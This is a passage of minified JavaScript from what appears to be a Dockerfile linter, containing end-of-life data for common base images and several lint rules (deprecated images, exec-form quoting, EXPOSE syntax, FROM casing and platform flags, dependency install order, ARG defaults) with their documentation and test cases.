le:"1.18",eol:"2023-02-01"},{cycle:"1.19",eol:"2023-08-08"},{cycle:"1.20",eol:"2024-02-06"},{cycle:"1.21",eol:"2024-08-13"},{cycle:"1.22",eol:"2025-02-11"},{cycle:"1.23",eol:"2025-08-12"}]},"eclipse-temurin":{source:"https://endoflife.date/api/eclipse-temurin.json",images:["eclipse-temurin"],replacement:"25",cycles:[{cycle:"16",eol:"2021-09-14"},{cycle:"18",eol:"2022-09-20"},{cycle:"19",eol:"2023-03-21"},{cycle:"20",eol:"2023-09-19"},{cycle:"22",eol:"2024-09-17"},{cycle:"23",eol:"2025-03-18"},{cycle:"24",eol:"2025-09-16"}]},ruby:{source:"https://endoflife.date/api/ruby.json",images:["ruby"],replacement:"3.4",cycles:[{cycle:"2.4",eol:"2020-03-31"},{cycle:"2.5",eol:"2021-03-31"},{cycle:"2.6",eol:"2022-04-12"},{cycle:"2.7",eol:"2023-03-31"},{cycle:"3.0",eol:"2024-04-23"},{cycle:"3.1",eol:"2025-03-26"},{cycle:"3.2",eol:"2026-03-31"}]},php:{source:"https://endoflife.date/api/php.json",images:["php"],replacement:"8.4",cycles:[{cycle:"5.6",eol:"2018-12-31"},{cycle:"7.0",eol:"2019-01-10"},{cycle:"7.1",eol:"2019-12-01"},{cycle:"7.2",eol:"2020-11-30"},{cycle:"7.3",eol:"2021-12-06"},{cycle:"7.4",eol:"2022-11-28"},{cycle:"8.0",eol:"2023-11-26"},{cycle:"8.1",eol:"2025-12-31"}]},postgresql:{source:"https://endoflife.date/api/postgresql.json",images:["postgres"],replacement:"18",cycles:[{cycle:"9.4",eol:"2020-02-13"},{cycle:"9.5",eol:"2021-02-11"},{cycle:"9.6",eol:"2021-11-11"},{cycle:"10",eol:"2022-11-10"},{cycle:"11",eol:"2023-11-09"},{cycle:"12",eol:"2024-11-21"},{cycle:"13",eol:"2025-11-13"}]}},deprecated:{openjdk:{since:"2022-07-01",use:"eclipse-temurin",source:"https://hub.docker.com/_/openjdk (deprecation notice; docker-library/openjdk#505: no JDK 8/11 builds after the July 2022 update)",skipTags:"-ea"},centos:{since:"2024-06-30",use:"rockylinux",source:"https://endoflife.date/api/centos.json (CentOS Linux 7, the last release, ended 2024-06-30; 8 on 2021-12-31)"}}};var Al=mo.date,Nl=Object.entries(mo.products).map(([n,e])=>({name:n,images:e.images,replacement:e.replacement,replacementCodename:e.replacementCodename,distro:!!e.distro,cycles:e.cycles})),Yh=Object.entries(mo.deprecated).map(([n,e])=>({image:n,...e}));function Wh(n){return Nl.find(e=>e.images.includes(n))}function Bh(n,e){let t;for(let s of n.cycles){let i=e[s.cycle.length],r=e.startsWith(s.cycle)&&(i===void 0||!/[0-9]/.test(i))&&!(i==="."&&n.name==="ubuntu"),o=e.split("-")[0];(r||s.codename&&o===s.codename)&&(!t||s.cycle.length>t.cycle.length)&&(t=s)}return t}function El(n,e=Al){return n.eol<=e}var PO=/^(docker\.io|index\.docker\.io|registry-1\.docker\.io)$/;function jO(n,e){let t=[],s=Wh(n);if(s){let r=Bh(s,e);r&&El(r)&&t.push({product:s,cycle:r,part:-1})}return e.split("-").forEach((r,o)=>{if(!(o===0&&s?.distro))for(let a of Nl){if(!a.distro||a===s)continue;let c=a.name==="alpine"?/^alpine(\d+\.\d+)$/.exec(r)&&a.cycles.find(l=>l.cycle===r.slice(6)):a.cycles.find(l=>l.codename===r);c&&El(c)&&t.push({product:a,cycle:c,part:o})}}),t}function qO(n,e){let t=n.split("-");for(let s of e)s.part<0?s.cycle.codename&&t[0]===s.cycle.codename?t.splice(0,/^\d{8}$/.test(t[1]??"")?2:1,s.product.replacementCodename??s.product.replacement):t[0]=s.product.replacement+t[0].slice(s.cycle.cycle.length).replace(/^\.[0-9.]*/,""):s.product.name==="alpine"?t[s.part]="alpine"+s.product.replacement:t[s.part]=s.product.replacementCodename??s.product.replacement;return t.join("-")}function UO(n){return`${n.product.name==="nodejs"?"Node.js":n.product.name==="postgresql"?"PostgreSQL":n.product.name==="go"?"Go":n.product.name} ${n.cycle.cycle}${n.cycle.codename?` (${n.cycle.codename})`:""}`}var HO={id:"EndOfLifeBaseImage",language:"dockerfile",severity:"warning",docs:{summary:"FROM should not use a release that has reached its end of life (python:3.6, node:14, ubuntu:18.04, debian:buster\u2026).",why:"An end-of-life release gets no security fixes: every CVE found since stays in the image, and scanners flag it. Package mirrors of old distributions also move or disappear (`apt-get update` on buster or bionic starts failing). The dates come from a dated snapshot of endoflife.date bundled with Slipway (python, node, ubuntu, debian, alpine, golang, eclipse-temurin, ruby, php, postgres; the deprecated openjdk and centos images), and \"today\" is that snapshot's date, not the day the linter runs, so the same file always gives the same findings; the snapshot is refreshed with each Slipway release (scripts/gen-eol.mjs). Debian counts until the end of its LTS, Ubuntu until the end of standard support. Only Docker Hub's official images are checked, build stages included; tags without a version (`python:3`, `latest`) are left alone.",bad:`FROM python:3.6-slim
RUN pip install --no-cache-dir flask==2.0.3
`,good:`FROM python:3.14-slim
RUN pip install --no-cache-dir flask==3.1.0
`},check({model:n,options:e,report:t}){for(let s of rt(n,e.buildArgs)){if(!s.path||s.stageRef||s.scratch||!s.tag||s.registry&&!PO.test(s.registry))continue;let i=s.path.toLowerCase().replace(/^library\//,"");if(i.includes("/"))continue;let r=s.tag,o=s.substituted?` (${s.written} is ${i}:${r})`:"",a=Yh.find(u=>u.image===i);if(a){if(a.skipTags&&r.includes(a.skipTags))continue;let u=/^\d+/.exec(r)?.[0],p=u&&a.use==="eclipse-temurin"?`${a.use}:${u}`:a.use;t({message:`The ${i} image is deprecated since ${a.since} and gets no updates${o}: use ${p}`,range:s.range});continue}let c=jO(i,r);if(!c.length)continue;let l=c.map(u=>`${UO(u)} reached its end of life on ${u.cycle.eol}`).join(", and ");t({message:`${l}${o}: use ${i}:${qO(r,c)} (end-of-life data of ${Al})`,range:s.range})}},tests:[{name:"python:3.6-slim",input:`FROM python:3.6-slim
`,expect:[{line:1,col:6,message:"python 3.6 reached its end of life on 2021-12-23: use python:3.14-slim (end-of-life data of 2026-12-01)"}]},{name:"node:14 and a patch version",input:`FROM node:14
FROM node:16.20.2-alpine
`,expect:[{line:1,message:"Node.js 14 reached its end of life on 2023-04-30: use node:24"},{line:2,message:"use node:24-alpine"}]},{name:"ubuntu by number and by name",input:`FROM ubuntu:18.04
FROM ubuntu:bionic-20230530
`,expect:[{line:1,message:"ubuntu 18.04 (bionic) reached its end of life on 2023-05-31: use ubuntu:24.04"},{line:2,message:"use ubuntu:noble"}]},{name:"debian buster counts until the end of LTS",input:`FROM debian:buster-slim
`,expect:[{line:1,message:"debian 10 (buster) reached its end of life on 2024-06-30: use debian:trixie-slim"}]},{name:"both the language and the distribution of a variant",input:`FROM python:3.9-slim-buster
`,expect:[{line:1,message:"python 3.9 reached its end of life on 2025-10-31, and debian 10 (buster) reached its end of life on 2024-06-30: use python:3.14-slim-trixie"}]},{name:"an alpine variant only",input:`FROM golang:1.27-alpine3.12
`,expect:[{line:1,message:"alpine 3.12 reached its end of life on 2022-05-01: use golang:1.27-alpine3.24"}]},{name:"supported releases",input:`FROM python:3.12-slim-bookworm
FROM node:24-alpine3.23
FROM ubuntu:24.04
FROM debian:bookworm
FROM golang:1.26
`,expect:[]},{name:"not 3.1 for 3.10, nor 3.11",input:`FROM python:3.11
FROM ruby:3.3
`,expect:[]},{name:"tags without a version",input:`FROM python:3
FROM node
FROM ubuntu:latest
`,expect:[]},{name:"docker.io/library and an ARG",input:`ARG PY=3.7
FROM docker.io/library/python:\${PY}
`,expect:[{line:2,col:6,message:"python 3.7 reached its end of life on 2023-06-27 (docker.io/library/python:${PY} is python:3.7)"}]},{name:"other registries and namespaces",input:`FROM ghcr.io/acme/python:3.6
FROM bitnami/node:14
FROM mirror.example/python:3.6
`,expect:[]},{name:"openjdk is deprecated",input:`FROM openjdk:11-jre-slim
FROM openjdk:26-ea-slim
`,expect:[{line:1,message:"The openjdk image is deprecated since 2022-07-01 and gets no updates: use eclipse-temurin:11"}]},{name:"postgres and php",input:`FROM postgres:11-alpine
FROM php:7.4-apache
`,expect:[{line:1,message:"PostgreSQL 11 reached"},{line:2,message:"php 7.4 reached"}]},{name:"a stage name is not an image",input:`FROM python:3.13 AS python
FROM python
`,expect:[]}]},Gh=HO;var YO=new Set(["sh","bash","ash","dash","zsh","ksh","mksh","fish","busybox","powershell","pwsh","cmd"]),WO=new Set(["-c","/c","/s","-command","-encodedcommand","-e","--eval","-x"]);function BO(n){if(n.length>=2&&(n[0]==="'"||n[0]==='"')&&n[n.length-1]===n[0]&&!n.slice(1,-1).includes(n[0]))return n.slice(1,-1);let e=/^(-{1,2}[A-Za-z0-9][\w.-]*=)(['"])([^'"]*)\2$/.exec(n);return e?e[1]+e[3]:void 0}var GO={id:"ExecFormLiteralQuotes",language:"dockerfile",severity:"warning",docs:{summary:"An exec-form argument contains quotes that are passed to the program literally.",why:"In the JSON form no shell removes quotes: `[\"gunicorn\", \"--bind='0.0.0.0:8000'\"]` hands gunicorn the address `'0.0.0.0:8000'` with the quote characters, which it cannot parse. Each array element is already one argument.",bad:`FROM python:3.12-slim
CMD ["gunicorn", "--bind='0.0.0.0:8000'", "app:app"]
`,good:`FROM python:3.12-slim
CMD ["gunicorn", "--bind=0.0.0.0:8000", "app:app"]
`},check({model:n,report:e}){for(let t of n.instructions){let s=t.keyword;if(s!=="CMD"&&s!=="ENTRYPOINT"&&s!=="RUN"&&s!=="HEALTHCHECK")continue;let i=Ne(n,t);if(i.kind!=="json"||!i.elements.length)continue;let r=i.elements[0].value.replace(/^.*[\\/]/,"").toLowerCase().replace(/\.exe$/,"");if(YO.has(r))continue;let o=re(n,t);for(let a of i.elements){if(WO.has(a.value.toLowerCase()))break;let c=BO(a.value);if(c===void 0)continue;let l=X(n,o.line,a.start,a.end);e({message:`The quotes in ${JSON.stringify(a.value)} are passed literally: exec form does not remove quotes`,range:l,fixes:[{title:"Remove the inner quotes",preferred:!0,edits:[{range:l,newText:JSON.stringify(c)}]}]})}}},tests:[{name:"quoted option value",input:`FROM python:3.12
CMD ["gunicorn", "--bind='0.0.0.0:8000'", "app:app"]
`,expect:[{line:2,col:18}],fixed:`FROM python:3.12
CMD ["gunicorn", "--bind=0.0.0.0:8000", "app:app"]
`},{name:"escaped double quotes",input:`FROM alpine
ENTRYPOINT ["jq", "\\".name\\""]
`,expect:[{line:2}],fixed:`FROM alpine
ENTRYPOINT ["jq", ".name"]
`},{name:"single-quoted word",input:`FROM alpine
RUN ["echo", "'hello'"]
`,expect:[{line:2}]},{name:"HEALTHCHECK",input:`FROM alpine
HEALTHCHECK CMD ["curl", "-f", "'http://localhost/'"]
`,expect:[{line:2}]},{name:"shell scripts keep their quotes",input:`FROM alpine
CMD ["sh", "-c", "'echo' hi"]
RUN ["/bin/bash", "-c", "echo 'x'"]
SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
CMD ["python", "-c", "'x'"]
`,expect:[]},{name:"inner quotes not around the whole value",input:`FROM alpine
CMD ["python", "-m", "x", "--name=it's"]
CMD ["echo", "a 'b' c"]
`,expect:[]},{name:"shell form untouched",input:`FROM alpine
CMD gunicorn --bind='0.0.0.0:8000' app:app
`,expect:[]}]},Vh=GO;var VO={id:"ExposeInvalidFormat",language:"dockerfile",severity:"warning",compat:{buildkit:"ExposeInvalidFormat"},docs:{summary:"EXPOSE should list container ports only, without an IP address or a host-port mapping.",why:"EXPOSE documents the ports the container listens on; `EXPOSE 8080:80` or `EXPOSE 127.0.0.1:80` does not publish anything on the host (that is `docker run -p`), and Docker has announced such values will become an error.",bad:`FROM nginx:1.27
EXPOSE 8080:80
`,good:`FROM nginx:1.27
EXPOSE 80
`},check({model:n,report:e}){for(let t of n.instructions)t.keyword==="EXPOSE"&&t.args.forEach((s,i)=>{let r=t.argValues[i];if(!r.includes(":")||r.includes("$"))return;let o=r.lastIndexOf("/"),a=o>=0?r.slice(0,o):r,c=o>=0?r.slice(o):"",l=a.slice(a.lastIndexOf(":")+1),u=/^\d+(-\d+)?$/.test(l)?[{title:`Keep only the container port ${l}${c}`,preferred:!0,edits:[{range:s.getRange(),newText:l+c}]}]:void 0;e({message:`EXPOSE instruction should not define an IP address or host-port mapping, found '${r}'`,range:co(t,s.getRange()),fixes:u})})},tests:[{name:"IP and host mappings",input:`FROM scratch
EXPOSE 127.0.0.1:80:80 [::1]:8080:8080 5000:5000 8000
`,expect:[{line:2,col:8,message:"'127.0.0.1:80:80'"},{line:2,message:"'[::1]:8080:8080'"},{line:2,message:"'5000:5000'"}],fixed:`FROM scratch
EXPOSE 80 8080 5000 8000
`},{name:"protocol is kept",input:`FROM scratch
EXPOSE 53:53/udp
`,expect:[{line:2}],fixed:`FROM scratch
EXPOSE 53/udp
`},{name:"plain ports, ranges and protocols",input:`FROM scratch
EXPOSE 80 443/tcp 8000-8010 53/udp
`,expect:[]},{name:"variables are left alone",input:`FROM scratch
ARG P=80
EXPOSE \${P}
`,expect:[]},{name:"quoted mapping (the builder removes the quotes)",input:`FROM scratch
EXPOSE "5000:5000" "8000" "$HOST:80"
`,expect:[{line:2,col:8,message:"found '5000:5000'"}],fixed:`FROM scratch
EXPOSE 5000 "8000" "$HOST:80"
`}]},zh=VO;var Kh=["tcp","udp","sctp"],zO={id:"ExposeInvalidProtocol",language:"dockerfile",severity:"error",docs:{summary:"EXPOSE uses a protocol other than tcp, udp or sctp, or a port range whose start is after its end.",why:"The builder parses `EXPOSE port[-port][/protocol]` and rejects any other protocol (`invalid proto`) and reversed ranges.",bad:`FROM nginx:1.27
EXPOSE 80/http 8010-8000
`,good:`FROM nginx:1.27
EXPOSE 80/tcp 8000-8010
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="EXPOSE")continue;let s=re(n,t);for(let i of s.words){let r=i.raw;if(r.includes("$")||/["']/.test(r))continue;let o=r.indexOf("/"),a=o>=0?r.slice(0,o):r;if(o>=0){let l=r.slice(o+1);if(l&&!Kh.includes(l.toLowerCase())){let u=X(n,s.line,i.start+o+1,i.end),p=He(l,Kh),d=p?[{title:`Change to ${p}`,preferred:!0,edits:[{range:u,newText:p}]}]:void 0;e({message:`Invalid protocol "${l}" in EXPOSE: use tcp, udp or sctp${p?` (did you mean ${p}?)`:""}`,range:u,fixes:d})}}if(a.includes(":"))continue;let c=/^(\d+)-(\d+)$/.exec(a);if(c&&Number(c[1])>Number(c[2])){let l=X(n,s.line,i.start,i.start+a.length);e({message:`Invalid port range ${a}: the start is after the end`,range:l,fixes:[{title:`Use ${c[2]}-${c[1]}`,preferred:!0,edits:[{range:l,newText:`${c[2]}-${c[1]}`}]}]})}}}},tests:[{name:"http protocol",input:`FROM alpine
EXPOSE 80/http
`,expect:[{line:2,col:11,message:"http"}]},{name:"typo",input:`FROM alpine
EXPOSE 53/upd
`,expect:[{line:2}],fixed:`FROM alpine
EXPOSE 53/udp
`},{name:"reversed range",input:`FROM alpine
EXPOSE 8010-8000/tcp
`,expect:[{line:2,col:8}],fixed:`FROM alpine
EXPOSE 8000-8010/tcp
`},{name:"valid",input:`FROM alpine
EXPOSE 80 443/tcp 53/udp 9/sctp 8000-8010 5000/TCP 6000/Udp 7000/
`,expect:[]},{name:"variables",input:"FROM alpine\nARG P=80\nEXPOSE $P/${PROTO} ${A}-${B}\n",expect:[]},{name:"continuation",input:`FROM alpine
EXPOSE 80 \\
  81/xyz
`,expect:[{line:3,col:6}]}]},Jh=zO;var KO={id:"ExposeProtoCasing",language:"dockerfile",severity:"info",compat:{buildkit:"ExposeProtoCasing"},docs:{summary:"The protocol in EXPOSE (`tcp`, `udp`, `sctp`) should be lowercase.",why:"Docker matches protocols in lowercase; `80/TCP` is accepted today only by normalisation and is reported by `docker build --check`.",bad:`FROM nginx:1.27
EXPOSE 80/TCP
`,good:`FROM nginx:1.27
EXPOSE 80/tcp
`},check({model:n,report:e}){for(let t of n.instructions)t.keyword==="EXPOSE"&&t.args.forEach((s,i)=>{let r=t.argValues[i],o=r.indexOf("/");if(o<0||r.includes("$"))return;let a=r.slice(o+1);if(a===a.toLowerCase())return;let c=r.slice(0,o+1)+a.toLowerCase();e({message:`Defined protocol '${r}' in EXPOSE instruction should be lowercase`,range:co(t,s.getRange()),fixes:s.getValue()===r?[{title:`Write '${c}'`,preferred:!0,edits:[{range:s.getRange(),newText:c}]}]:void 0})})},tests:[{name:"uppercase protocols",input:`FROM scratch
EXPOSE 80/TcP 8080/TCP 8080/udp
`,expect:[{line:2,col:8,message:"'80/TcP'"},{line:2,col:15,message:"'8080/TCP'"}],fixed:`FROM scratch
EXPOSE 80/tcp 8080/tcp 8080/udp
`},{name:"lowercase or none",input:`FROM scratch
EXPOSE 80 443/tcp 53/udp
`,expect:[]},{name:"continuation line",input:`FROM scratch
EXPOSE 80 \\
  443/UDP
`,expect:[{line:2}]},{name:"quoted port: read unquoted, no fix (the quotes are the author's)",input:`FROM scratch
EXPOSE "80/TCP" '53/udp'
`,expect:[{line:2,col:8,message:"'80/TCP'"}],fixed:`FROM scratch
EXPOSE "80/TCP" '53/udp'
`}]},Xh=KO;var JO={id:"FromAsCasing",language:"dockerfile",severity:"info",compat:{buildkit:"FromAsCasing"},docs:{summary:"The 'AS' keyword should match the casing of the 'FROM' keyword.",why:"Keywords in one instruction written in different casings (`FROM x as y`) read as a typo and are reported by `docker build --check`.",bad:`FROM node:20 as build
RUN npm ci
`,good:`FROM node:20 AS build
RUN npm ci
`},check({model:n,report:e}){for(let t of n.stages){let{asWord:s,asRange:i}=Te(n,t);if(!s||!i)continue;let r=t.fromInstruction.written,o=r===r.toLowerCase(),a=r===r.toUpperCase();if(!o&&!a)continue;let c=o?s.toLowerCase():s.toUpperCase();c!==s&&e({message:`'${s}' and '${r}' keywords' casing do not match`,range:i,fixes:[{title:`Write '${c}'`,preferred:!0,edits:[{range:i,newText:c}]}]})}},tests:[{name:"lowercase as",input:`FROM scratch as base
`,expect:[{line:1,col:14,message:"'as' and 'FROM'"}],fixed:`FROM scratch AS base
`},{name:"uppercase AS with lowercase from",input:`from scratch AS base
`,expect:[{line:1}],fixed:`from scratch as base
`},{name:"matching casing",input:`FROM scratch AS a
from scratch as b
`,expect:[]},{name:"mixed-case FROM is left to ConsistentInstructionCasing",input:`From scratch as base
`,expect:[]},{name:"no stage name",input:`FROM scratch
`,expect:[]}]},Zh=JO;var XO=new Set(["aix","android","darwin","dragonfly","freebsd","hurd","illumos","ios","js","linux","nacl","netbsd","openbsd","plan9","solaris","windows","zos","wasip1"]),ZO={x86_64:"amd64","x86-64":"amd64",aarch64:"arm64",armhf:"arm",armel:"arm",i386:"386",i686:"386",x86:"386"},QO=new Set(["386","amd64","amd64p32","arm","armbe","arm64","arm64be","ppc64","ppc64le","mips","mipsle","mips64","mips64le","mips64p32","mips64p32le","ppc","riscv","riscv64","s390","s390x","sparc","sparc64","wasm","loong64"]);function e1(n){let e=n.split("/");if(e.length>3||e.some(s=>!/^[A-Za-z0-9_.()-]+$/.test(s)))return;let t=s=>ZO[s.toLowerCase()]??s.toLowerCase();if(e.length===1){let s=e[0].toLowerCase();return XO.has(s)||s==="macos"?{os:s==="macos"?"darwin":s,arch:"amd64"}:QO.has(t(s))?{os:"linux",arch:t(s)}:void 0}return{os:e[0].toLowerCase().replace(/\(.*\)$/,""),arch:t(e[1])}}var t1={id:"FromPlatformFlagConstDisallowed",language:"dockerfile",severity:"warning",compat:{buildkit:"FromPlatformFlagConstDisallowed"},docs:{summary:"FROM --platform should use a variable such as `$BUILDPLATFORM`, not a constant.",why:"A constant platform pins the stage to one architecture whatever `--platform` the build asks for, so multi-platform builds silently produce wrong-architecture images (unless the stage is named for that platform on purpose).",bad:`FROM --platform=linux/amd64 golang:1.22 AS build
`,good:`FROM --platform=$BUILDPLATFORM golang:1.22 AS build
`},check({model:n,report:e}){for(let t of n.stages){let{platform:s,name:i}=Te(n,t);if(!s||s.includes("$"))continue;let r=e1(s);if(!r)continue;let o=(i??"").toLowerCase();if(o&&(o.includes(r.os)||o.includes(r.arch)))continue;let c=t.platformFlag?.getRange();e({message:`FROM --platform flag should not use constant value "${s}"`,range:c&&c.start.line===t.fromInstruction.range.start.line?c:t.fromInstruction.range})}},tests:[{name:"constant platform",input:`FROM --platform=linux/amd64 scratch
`,expect:[{line:1,col:6,message:'"linux/amd64"'}]},{name:"stage named for the architecture",input:`FROM --platform=linux/amd64 scratch AS my_amd64_stage
`,expect:[]},{name:"stage named for the OS",input:`FROM --platform=linux/amd64 scratch AS linux
`,expect:[]},{name:"variables",input:`FROM --platform=$BUILDPLATFORM scratch
FROM --platform=linux/\${TARGETARCH} scratch
`,expect:[]},{name:"quoted values (the builder removes the quotes)",input:`FROM --platform="linux/amd64" scratch
FROM --platform="$BUILDPLATFORM" scratch
`,expect:[{line:1,col:6,message:'constant value "linux/amd64"'}]},{name:"arm variant",input:`FROM --platform=linux/arm/v7 alpine AS build
`,expect:[{line:1}]}]},Qh=t1;var n1=new Set(["prefix","C","workspace","w","registry","cache","userconfig","omit","include","install-strategy"]);function s1(n){let e=Wt(n);if(e){for(let s=0;s<e.args.length;s++){let i=e.args[s].value,r=/^(?:-r|--requirement)(?:=(.+))?$/.exec(i)??/^-r(.+)$/.exec(i);if(r){let o=r[1]??e.args[s+1]?.value;if(o&&!e.args[s+1]?.dynamic)return{manifest:o}}}return}let t=z(n,n.name==="npm"?n1:[]).map(s=>s.value);switch(n.name){case"npm":return t[0]==="ci"||(t[0]==="install"||t[0]==="i")&&t.length===1?{manifest:"package.json and package-lock.json"}:void 0;case"yarn":return t.length===0||t[0]==="install"&&t.length===1?{manifest:"package.json and yarn.lock"}:void 0;case"pnpm":return(t[0]==="install"||t[0]==="i")&&t.length===1?{manifest:"package.json and pnpm-lock.yaml"}:void 0;case"poetry":return t[0]==="install"?{manifest:"pyproject.toml and poetry.lock"}:void 0;case"pipenv":return t[0]==="install"&&t.length===1||t[0]==="sync"?{manifest:"Pipfile and Pipfile.lock"}:void 0;case"uv":return t[0]==="sync"?{manifest:"pyproject.toml and uv.lock"}:void 0;case"bundle":return t[0]==="install"||t.length===0?{manifest:"Gemfile and Gemfile.lock"}:void 0;case"composer":return t[0]==="install"?{manifest:"composer.json and composer.lock"}:void 0;case"go":return t[0]==="mod"&&t[1]==="download"?{manifest:"go.mod and go.sum"}:void 0;case"conda":case"mamba":case"micromamba":{if(t[0]!=="env"||t[1]!=="create"&&t[1]!=="update")return;let s=n.args.findIndex(r=>r.value==="-f"||r.value==="--file"),i=s>=0?n.args[s+1]:n.args.find(r=>r.value.startsWith("--file="));return!i||i.dynamic?void 0:{manifest:i.value.startsWith("--file=")?i.value.slice(7):i.value}}}}function i1(n,e){if(e.keyword!=="COPY"&&e.keyword!=="ADD"||e.flags.some(s=>s.getName().toLowerCase()==="from"))return!1;let t=Gt(n,e);return!t||t.values.length<2?!1:t.values.slice(0,-1).some(s=>/^(\.\/?|\.\/\.|\*)$/.test(s))}var r1={id:"InstallAfterSourceCopy",language:"dockerfile",severity:"info",docs:{summary:"Dependencies should be installed from their manifest before the rest of the source is copied.",why:"Each instruction's cache depends on everything before it. After `COPY . /app`, any change to any file of the project invalidates the `pip install -r requirements.txt` (or `npm ci`, `poetry install`, `go mod download`\u2026) that follows, so every code change downloads and builds all dependencies again: for an ML image, gigabytes of torch and CUDA wheels. Copy the manifest alone first, install, then copy the rest. Info, not a warning: the image is the same, only the builds are slower. No quick fix: the install may read other files of the project (`-e .` in requirements.txt, a local path, a workspace), so which files to copy first is the author's call.",bad:`FROM python:3.12-slim
WORKDIR /app
COPY . .
RUN pip install --no-cache-dir -r requirements.txt
CMD ["python", "serve.py"]
`,good:`FROM python:3.12-slim
WORKDIR /app
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY . .
CMD ["python", "serve.py"]
`},check({model:n,report:e}){for(let t of n.stages){let s,i=new Set;for(let r of t.instructions){if(!s&&i1(n,r)){s=r;continue}let o=Xs(n,r);if(o)for(let a of o.commands){let c=s1(a);if(!c)continue;if(!s){i.add(c.manifest);continue}if(i.has(c.manifest))continue;let l=a.args[a.args.length-1]??a.nameWord,u=a.words.includes(a.nameWord)?a.nameWord:a.words[0],p=n.textOf({start:u.range.start,end:l.range.end});e({message:`\`${p.length>60?p.slice(0,57)+"...":p}\` runs after the whole source is copied (line ${s.range.start.line+1}), so every code change reinstalls all dependencies: copy ${c.manifest} first and install before copying the rest`,range:u.range.start.line===l.range.end.line?{start:u.range.start,end:l.range.end}:u.range})}}}},tests:[{name:"COPY . then pip install -r",input:`FROM python:3.12
WORKDIR /app
COPY . /app
RUN pip install --no-cache-dir -r requirements.txt
`,expect:[{line:4,col:5,message:"`pip install --no-cache-dir -r requirements.txt` runs after the whole source is copied (line 3), so every code change reinstalls all dependencies: copy requirements.txt first and install before copying the rest"}]},{name:"requirements first",input:`FROM python:3.12
COPY requirements.txt .
RUN pip install -r requirements.txt
COPY . .
RUN pip install --no-deps .
`,expect:[]},{name:"npm ci after COPY ./ (JSON form)",input:`FROM node:22
WORKDIR /src
COPY ["./", "/src/"]
RUN apt-get update && npm ci --omit dev
`,expect:[{line:4,col:23,message:"copy package.json and package-lock.json first"}]},{name:"npm install of named packages",input:`FROM node:22
COPY . .
RUN npm install -g pm2
`,expect:[]},{name:"poetry, go mod download, conda env create",input:`FROM python:3.12
COPY . .
RUN poetry install --no-root
RUN go mod download
RUN conda env create -f environment.yml
`,expect:[{line:3,message:"copy pyproject.toml and poetry.lock first"},{line:4,message:"copy go.mod and go.sum first"},{line:5,message:"copy environment.yml first"}]},{name:"COPY of one folder is not the whole source",input:`FROM python:3.12
COPY src/ /app/src/
RUN pip install -r requirements.txt
`,expect:[]},{name:"COPY --from a build stage",input:`FROM python:3.12 AS b
FROM python:3.12
COPY --from=b . /app
RUN pip install -r /app/requirements.txt
`,expect:[]},{name:"each stage on its own",input:`FROM python:3.12 AS src
COPY . .
FROM python:3.12
RUN pip install -r requirements.txt
`,expect:[]},{name:"pip install . needs the source",input:`FROM python:3.12
COPY . .
RUN pip install .
`,expect:[]}]},em=r1;var tm="[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*",o1="(?:[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?(?:\\.[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?)*|\\[[0-9A-Fa-f:]+\\])(?::[0-9]+)?",a1="[\\w][\\w.-]{0,127}",c1="[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}",l1=new RegExp(`^(?:${o1}/)?${tm}(?:/${tm})*(?::${a1})?(?:@${c1})?$`);function u1(n){return!l1.test(n)||/^[a-f0-9]{64}$/.test(n)?!1:n.replace(/@.*$/,"").replace(/:[\w][\w.-]*$/,"").length<=255}var p1={id:"InvalidDefaultArgInFrom",language:"dockerfile",severity:"warning",compat:{buildkit:"InvalidDefaultArgInFrom"},docs:{summary:"A FROM that uses global ARGs should name a valid image with the ARGs' default values.",why:"Without `--build-arg` the defaults are what `docker build` uses; `ARG VERSION` with no default turns `FROM node:$VERSION` into `node:`, which fails, and tools that read the Dockerfile cannot tell which image it uses.",bad:`ARG VERSION
FROM node:$VERSION
`,good:`ARG VERSION=20
FROM node:$VERSION
`},check({model:n,report:e}){let t=Rn(n);for(let s of n.stages){let{image:i}=Te(n,s);if(!i||!i.includes("$"))continue;let r=it(i,t,n.escape);r.error||u1(r.result)||e({message:`Default value for ARG ${i} results in empty or invalid base image name`,range:s.fromInstruction.range})}},tests:[{name:"no default gives an empty tag",input:`
ARG VERSION
FROM busybox:$VERSION
`,expect:[{line:3,message:"Default value for ARG busybox:$VERSION results in empty or invalid base image name"}]},{name:"empty image",input:`ARG IMAGE
FROM $IMAGE
`,expect:[{line:2}]},{name:"default ends in a colon",input:`ARG SFX="box:"
FROM busy\${SFX}
`,expect:[{line:2}]},{name:"valid defaults",input:`ARG VERSION="latest"
ARG V2=""
ARG V3
ARG REG=ghcr.io:443/org
FROM busybox:\${VERSION}
FROM busybox:stable\${V2}
FROM busybox:stable\${V3}
FROM $REG/app:1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
`,expect:[]},{name:"uppercase repository",input:`ARG NAME=Busybox
FROM $NAME
`,expect:[{line:2}]}]},nm=p1;function d1(n){return n.memoize("directiveLines",()=>{let e=0;for(;e<n.lines.lineCount&&/^\s*#\s*[A-Za-z]+\s*=/.test(n.lines.lineText(e));)e++;return e})}function f1(n,e){let t=d1(n),s=e.range.start.line-1,i;for(;s>=t;s--){let r=n.lines.lineText(s),o=/^\s*#(.*)$/.exec(r);if(!o)break;let a=o[1].trim();if(a==="")break;i=a}return i}var h1={id:"InvalidDefinitionDescription",language:"dockerfile",severity:"info",optIn:!0,compat:{buildkit:"InvalidDefinitionDescription"},docs:{summary:"A comment right above FROM \u2026 AS name or ARG should start with that name (`# name description`); experimental in BuildKit, reported only with `# check=experimental=InvalidDefinitionDescription` (or when enabled in the settings).",why:"`docker buildx build --call=outline` and `--call=targets` show such comments as descriptions of build targets and arguments; a comment that does not start with the name is either not meant as a description (separate it with an empty line or `#`) or is a description that tools will miss.",bad:`# check=experimental=InvalidDefinitionDescription
# the version to build
ARG VERSION=3.20
FROM alpine:\${VERSION}
`,good:`# check=experimental=InvalidDefinitionDescription
# VERSION is the version to build
ARG VERSION=3.20
FROM alpine:\${VERSION}
